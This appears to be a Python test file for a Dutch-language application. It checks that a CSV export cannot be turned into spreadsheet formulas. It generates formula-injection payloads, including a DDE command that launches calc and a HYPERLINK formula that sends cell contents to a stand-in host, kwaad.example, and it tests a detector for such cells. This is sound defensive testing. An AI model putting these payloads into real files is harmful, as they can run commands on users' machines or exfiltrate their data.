"""E5: whatever stands in a name, no cell of a file that goes to a spreadsheet begins to calculate."""

import csv
import io
import itertools
import re
import unicodedata

from tests.test_huisregels import PYTHON, kort
from zorg.basis.uitvoer import als_csv

VOOR = ("", " ", "  ", '"', "'", "\u00a0", "\u200b", "\ufeff", "\t", "\r", "\n", "\0", "\u2003", "\u202e")
TEKEN = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
WAT = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://kwaad.example/"&A1)', "SUM(1;1)")
LADINGEN = ["".join(delen) for delen in itertools.product(VOOR, TEKEN, WAT)]
KOP = ["Naam", "Klas"]


def begint_te_rekenen(inhoud: bytes) -> list[str]:
    """The cells that a spreadsheet takes for a formula: what it looks at once it took away what cannot be seen."""
    rijen = list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig"), newline=""), delimiter=";"))
    kaal = {cel: unicodedata.normalize("NFKC", cel.strip(' "\0\ufeff\u200b\u202e')) for rij in rijen for cel in rij}
    return [cel for cel, tekst in kaal.items() if tekst.startswith(tuple("=+-@|%\t\r\n"))]


def test_wat_rekent_wordt_gezien():
    assert all(begint_te_rekenen(b"a;%s\r\n" % kwaad) for kwaad in (b"=1", b'"  +1"', b"\t=1", "\uff1d1".encode()))
    assert begint_te_rekenen(als_csv(KOP, [["Jan - Piet", "2b"], ["3-4", "a=b"]])) == []


def test_geen_cel_rekent(cijfer):
    inhoud = als_csv(KOP, [[lading, "2b"] for lading in LADINGEN])

    assert begint_te_rekenen(inhoud) == []
    cijfer("E5", "cellen die proberen te rekenen", len(LADINGEN), lat="≥ 200")
    cijfer("E5", "daarvan formule", len(begint_te_rekenen(inhoud)), lat="= 0")


def test_elk_rekenblad_komt_van_die_ene_plek():
    """A second writer of cells would have to be proven again."""
    schrijvers = [
        kort(pad) for pad in PYTHON if re.search(r"csv\.(writer|DictWriter)|\bWorkbook\b|xlsxwriter", pad.read_text())
    ]
    assert schrijvers == ["zorg/basis/uitvoer.py"]
